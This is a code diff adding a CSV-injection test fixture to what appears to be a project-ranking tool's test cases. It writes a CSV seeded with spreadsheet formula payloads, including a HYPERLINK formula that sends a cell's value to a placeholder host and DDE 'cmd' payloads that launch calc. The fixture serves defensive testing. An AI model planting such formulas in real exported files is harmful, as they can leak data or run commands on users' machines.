@@ -902,6 +902,52 @@ def cases() -> list[Case]:
     return c
 
 
+# ------------------------------------------------------------------------------------------ CSV injection
+
+# Cells a spreadsheet program would run as formulas (OWASP, CSV injection): each leading character of the
+# issue (= + - @ TAB CR) with a payload of the kind used in the wild.
+FORMULA_PAYLOADS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+SUM(1,2)",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+FORMULA_ID_LEADS = ["=", "+", "-", "@"]
+
+
+def formula_lead_csv(folder: Path, name: str = "formulas.csv") -> Path:
+    """The bundled sample as a CSV whose ids all start with a formula character (``=BR-001``, ``+BR-002`` …) and
+    whose names are formula payloads on every other row, plus two data issues whose values are formulas: the
+    ranking, the data issues and a portfolio made from it carry such cells into every CSV download. It ranks."""
+    import csv
+
+    from python_calamine import CalamineWorkbook
+
+    rows = CalamineWorkbook.from_path(str(SAMPLE)).get_sheet_by_name("projects").to_python()
+    top = next(i for i, r in enumerate(rows) if r and r[0] == "project_id")
+    header, body = rows[top], rows[top + 1 :]
+    j_id, j_name = header.index("project_id"), header.index("project_name")
+    out = []
+    for i, row in enumerate(body):
+        row = list(row)
+        if row[j_id] not in ("", None):
+            row[j_id] = FORMULA_ID_LEADS[i % len(FORMULA_ID_LEADS)] + str(row[j_id])
+        if i % 2 == 0:
+            row[j_name] = FORMULA_PAYLOADS[(i // 2) % len(FORMULA_PAYLOADS)]
+        out.append(row)
+    # data issues whose id and value cells lead with a formula character: an optional number that is a
+    # formula (a data issue) and a required one (an invalid record)
+    j_opt, j_req = header.index("start_year"), header.index("total_investment_usd_m")
+    out[1][j_opt] = "=NOW()"
+    out[3][j_req] = "-1+cmd|' /C calc'!A0"
+    path = folder / name
+    with path.open("w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([header, *out])
+    return path
+
+
 def _default() -> str:
     return str(Path(__file__).resolve().parents[1] / "criteria" / "default.yaml")
 
